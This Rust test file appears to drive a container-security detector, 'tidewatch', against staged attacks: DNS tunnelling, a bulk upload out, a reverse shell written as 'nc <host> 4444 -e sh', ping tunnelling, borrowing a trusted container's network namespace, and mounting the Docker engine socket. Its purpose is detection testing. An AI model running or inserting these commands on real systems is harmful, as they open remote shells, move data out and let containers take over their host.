//! What hides in traffic, or behind another's name: data in names, a theft, a shell that somebody elsewhere types into, a
//! container in another one's network namespace, the engine's socket.

use std::time::Duration;

use anyhow::{Result, ensure};

use crate::cases::Outcome;
use crate::images::{BUSYBOX, WEB};
use crate::outside::{HOSTS, NAME_SERVER, Outside, PORT};
use crate::scene::{Expected, Scene, start_of};
use crate::stage::Stage;
use crate::tidewatch::Room;

const VICTIM: &str = "tw-live-web-1";

/// Data in names.
pub(crate) fn tunnel(room: &Room) -> Result<Outcome> {
    let server = format!("{NAME_SERVER}:53");
    let attack = Attack { name: "tw-live-attack-tunnel", judge: "dns_tunnel", within: 20.0 };
    attack.carry_out(room, &[BUSYBOX, "load", "tunnel", &server, "t.example.com", "5"])
}

/// A hundred megabytes to the outside.
pub(crate) fn upload(room: &Room) -> Result<Outcome> {
    let to = format!("{}:{PORT}", HOSTS[0]);
    let attack = Attack { name: "tw-live-attack-upload", judge: "volume", within: 20.0 };
    attack.carry_out(room, &[BUSYBOX, "load", "upload", &to, "100"])
}

/// `nc -e sh` to the outside.
pub(crate) fn shell(room: &Room) -> Result<Outcome> {
    let script = format!("sleep 1; nc {} 4444 -e sh; sleep 60", HOSTS[0]);
    let attack = Attack { name: "tw-live-attack-shell", judge: "reverse_shell", within: 10.0 };
    attack.carry_out(room, &[BUSYBOX, "sh", "-c", &script])
}

/// Large control messages to the outside, as a tunnel through echoes sends them.
pub(crate) fn echoes(room: &Room) -> Result<Outcome> {
    let attack = Attack { name: "tw-live-attack-echoes", judge: "unusual_protocol", within: 10.0 };
    attack.carry_out(room, &[BUSYBOX, "ping", "-i", "0.1", "-s", "1000", HOSTS[0]])
}

/// A container in the network namespace of one that is trusted, from where it calls the outside.
pub(crate) fn borrowed(room: &Room) -> Result<Outcome> {
    let to = format!("{}:{PORT}", HOSTS[0]);
    let attack = Attack { name: "tw-live-attack-borrower", judge: "foreign_namespace", within: 10.0 };
    let mode = format!("container:{VICTIM}");
    attack.carry_out(room, &["--network", &mode, BUSYBOX, "load", "ask", &to, "500", "50"])
}

/// The engine's socket, mounted and asked.
pub(crate) fn socket(room: &Room) -> Result<Outcome> {
    let attack = Attack { name: "tw-live-attack-socket", judge: "control_plane", within: 10.0 };
    let volume = "/var/run/docker.sock:/var/run/docker.sock";
    attack.carry_out(room, &["--volume", volume, BUSYBOX, "load", "engine", "/var/run/docker.sock"])
}

struct Attack {
    name: &'static str,
    judge: &'static str,
    within: f64,
}

impl Attack {
    /// Quiet beside a benign container on a network, then one incident that names the attack.
    fn carry_out(&self, room: &Room, args: &[&str]) -> Result<Outcome> {
        let mut outside = Outside::open()?;
        outside.wait_for_shell(4444)?;
        let mut stage = Stage::set(0)?;
        let network = stage.docker.network("tw-live-hidden")?;
        stage.add(VICTIM, &["--network", &network.name, WEB, "load", "serve", "0.0.0.0:8080"])?;
        let mut scene = Scene::open_with(room, stage, None)?;
        scene.stay_quiet(Duration::from_secs(2))?;
        let attack = scene.docker().start(self.name, args)?;
        let expected = Expected { container: self.name, judge: self.judge, within: self.within };
        let found = scene.one_incident(&expected, start_of(&attack)?)?;
        ensure!(scene.tidewatch.incidents_about(VICTIM)?.is_empty(), "it blames {VICTIM}");
        let note = found.finding.claim;
        drop(attack);
        drop(scene);
        drop((network, outside));
        Ok(Outcome { delays: vec![found.delay], note })
    }
}
